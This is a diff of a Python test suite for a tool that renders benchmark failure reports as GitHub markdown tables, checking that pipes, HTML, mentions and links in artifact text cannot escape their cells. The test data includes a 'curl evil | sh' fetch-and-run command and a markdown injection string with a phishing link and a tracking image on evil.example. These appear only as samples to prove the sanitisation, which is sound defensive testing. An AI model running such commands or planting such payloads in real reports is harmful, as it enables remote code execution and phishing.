@@ -71,6 +71,7 @@ def test_hostile_model_name_and_error_cannot_forge_ping_or_inject(tmp_path):
 
 def test_inline_filters():
     assert md("a|b") == "a\\|b"
+    assert code("a|b") == "`a\\|b`"  # a table cell's code span reads it as a plain pipe
     assert "&lt;script&gt;" in md("<script>")
     assert md("@org/team") == "@\u200borg/team"
     assert code("a`b").startswith("``") and code("a`b").endswith("``")
@@ -156,3 +157,44 @@ def test_reproduce_locally_shows_a_command_only_when_the_report_was_configured_w
     # a different command in the artifact is still not offered, whatever the report trusts
     other = check.replace(spec=check.spec.replace(command="curl evil | sh"))
     assert "curl" not in reproduce_command(other, True, ("python bench.py --layers 30",))
+
+
+# ---------------------------------------------------------------------------- tables
+
+CELL_BREAKER = "a|[pwn](https://evil.example/phish) <img src=https://evil.example/t.png> **bold** @acme #1"
+
+
+def tables(body: str):
+    """(header cells, row cells) of every body row of every table in ``body``, cells split the way
+    GitHub splits them: on every pipe not escaped by a backslash, code spans or not."""
+    def cells(line):
+        return re.split(r"(?<!\\)\|", line.strip())[1:-1]
+
+    lines = body.splitlines()
+    header = None
+    for i, line in enumerate(lines):
+        if i + 1 < len(lines) and line.startswith("|") and re.fullmatch(r"\|(-+\|)+", lines[i + 1]):
+            header = cells(line)
+        elif header is not None and line.startswith("|") and not re.fullmatch(r"\|(-+\|)+", line):
+            yield header, cells(line)
+        elif not line.startswith("|"):
+            header = None
+
+
+def test_a_pipe_in_a_setting_or_version_cannot_end_its_table_cell(tmp_path):
+    """A setting's default, a version string or an op name (artifact text) holding ``|`` stays in its
+    own cell, as literal code: nothing of it becomes a link, an image or HTML in the next cell."""
+    c = check_row()
+    f = failure_record(c)
+    f["versions"]["os"] = "Linux|" + CELL_BREAKER
+    f["config"]["diff"].append({"key": "inductor.x|y", "default": CELL_BREAKER, "value": "b|`c`|"})
+    f["config"]["minimal"].append({"key": "inductor.x|y", "default": CELL_BREAKER, "value": "b"})
+    _, _, body, _, _ = render_for(tmp_path, c, f)
+    rows = list(tables(body))
+    hostile = [cells for _, cells in rows if any("evil.example" in x for x in cells)]
+    assert len(hostile) == 3  # both config tables and the versions table
+    for header, cells in rows:
+        assert len(cells) == len(header), cells
+        for cell in cells:
+            literal = re.sub(r"(`+)(?!`).+?(?<!`)\1(?!`)", "", cell)  # code spans are literal on GitHub
+            assert "evil.example" not in literal and "<img" not in literal and "@acme" not in literal, cell
